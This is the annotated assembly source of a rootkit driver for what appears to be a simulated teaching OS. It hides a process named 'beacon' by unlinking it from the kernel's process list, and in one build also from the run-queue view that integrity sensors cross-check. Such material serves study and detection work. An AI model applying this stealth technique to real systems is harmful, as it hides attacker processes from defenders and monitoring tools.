; rootkit.asm -- "rootkit.sys", a boot driver that hides a process by direct kernel
; object manipulation (DKOM), after the FU rootkit (2004).
;
; It is malware, so nobody asks it where it wants to run: the kernel's loader puts it in
; the kernel half as a kernel thread, at ring 0, under every isolation model (`simpleos
; boot --rootkit`). From there it can write any kernel memory, and it writes one thing:
; the kernel's list of processes.
;
; The kernel keeps its processes on a circular doubly linked list in guest memory
; (simpleos/kernel/proclist.py, docs/memory-layout.md), one object per process:
;
;   struct process_object {          64 bytes, in the kernel's process tables
;       u64 flink;    +0x00          the next object's links (or the list head)
;       u64 blink;    +0x08          the previous object's links (or the head)
;       u64 pid;      +0x10
;       u64 cr3;      +0x18          its page-table root
;       char name[16];+0x20          e.g. "beacon"
;       u64 ring;     +0x30
;   };
;
; The process_list system call, `ps` and every ring-3 sensor see exactly this list. The
; scheduler does not: it runs processes from its own records. So a process whose object is
; taken off the list goes on running, and nothing that reads the list can see it. That is
; the whole trick:
;
;   1. register a process-creation callback (ps_wait_created), as real EDRs -- and real
;      rootkits -- do with PsSetCreateProcessNotifyRoutine, and wait;
;   2. for every new process, compare its name with TARGET_NAME;
;   3. unlink the target:  blink->flink = flink;  flink->blink = blink;
;      then point its own links at itself, so that the kernel's unlink when the process
;      exits (it checks that both neighbours point back) changes nothing. FU left them
;      dangling, and Windows crashed when the hidden process exited.
;   4. build `deep` only: also take its object out of the run-queue view the kernel
;      publishes for integrity tools -- the view a ring-0 sensor cross-checks first.
;
; It never logs and never calls the sensor. Register conventions: System V.

; Offsets into the kernel's process tables (the `process_tables` import points at them).
TABLES_HEAD = 0x00              ; the list head: flink, blink
TABLES_RUN_QUEUE_COUNT = 0x10   ; how many entries the run-queue view has
TABLES_RUN_QUEUE = 0x40         ; u64 run_queue[]: object pointers
; Offsets into a process object.
OBJECT_FLINK = 0x00
OBJECT_BLINK = 0x08
OBJECT_NAME = 0x20
NAME_SIZE = 16

; ---------------------------------------------------------------------------
; rootkit_main -- the driver's entry point: wait for new processes, hide the target.
; ---------------------------------------------------------------------------
_start:
rootkit_main:
    call qword ptr [rip + import_ps_wait_created]  ; rax = the new process's object
    mov rbx, rax                    ; rbx = the object (callee-saved: it survives the calls)
    lea rdi, [rbx + OBJECT_NAME]    ; its name ...
    lea rsi, [rip + target_name]    ; ... against the one we hide
    call names_equal
    test eax, eax
    jz rootkit_main                 ; somebody else: let it be
    call hide_process
    jmp rootkit_main

; names_equal -- are two NUL-terminated names (at most NAME_SIZE bytes) the same?
;   in: rdi, rsi = the names      out: rax = 1 if equal, else 0
names_equal:
    xor ecx, ecx                    ; rcx = position
.Lcompare:
    movzx eax, byte ptr [rdi + rcx]
    cmp al, byte ptr [rsi + rcx]
    jne .Ldifferent
    test al, al                     ; both ended here: equal
    jz .Lequal
    inc ecx
    cmp ecx, NAME_SIZE
    jb .Lcompare
.Lequal:
    mov eax, 1
    ret
.Ldifferent:
    xor eax, eax
    ret

; hide_process -- direct kernel object manipulation on the object in rbx.
hide_process:
    mov rcx, [rbx + OBJECT_FLINK]   ; rcx = the next entry
    mov rdx, [rbx + OBJECT_BLINK]   ; rdx = the previous entry
    mov [rdx + OBJECT_FLINK], rcx   ; previous->flink = next     (the list skips us ...
    mov [rcx + OBJECT_BLINK], rdx   ; next->blink = previous      ... in both directions)
    mov [rbx + OBJECT_FLINK], rbx   ; our own links point at ourselves: an unlink
    mov [rbx + OBJECT_BLINK], rbx   ; of this entry later is harmless
.if UNLINK_RUN_QUEUE
    ; The deep build: find the object in the run-queue view and move the last entry into
    ; its place, so that a scan of the run queue against the list finds nothing missing.
    mov r8, [rip + import_process_tables]
    mov rcx, [r8 + TABLES_RUN_QUEUE_COUNT]  ; rcx = entries
    xor edx, edx                    ; rdx = index
.Lfind_entry:
    cmp rdx, rcx
    jae .Lrun_queue_done            ; not there: nothing to do
    cmp [r8 + TABLES_RUN_QUEUE + rdx*8], rbx
    je .Lfound_entry
    inc rdx
    jmp .Lfind_entry
.Lfound_entry:
    dec rcx                         ; one entry fewer ...
    mov rax, [r8 + TABLES_RUN_QUEUE + rcx*8]
    mov [r8 + TABLES_RUN_QUEUE + rdx*8], rax        ; ... the last one takes our place
    mov qword ptr [r8 + TABLES_RUN_QUEUE + rcx*8], 0
    mov [r8 + TABLES_RUN_QUEUE_COUNT], rcx
.Lrun_queue_done:
.endif
    ret

.data
; The import table: the loader fills each slot (kernel/drivers.py, bind_imports).
import_ps_wait_created: .quad 0  ; ps_wait_created() -> the next new process's object (blocks)
import_process_tables:  .quad 0  ; the address of the kernel's process tables (a ring-0 export)

target_name:         .asciz "beacon"
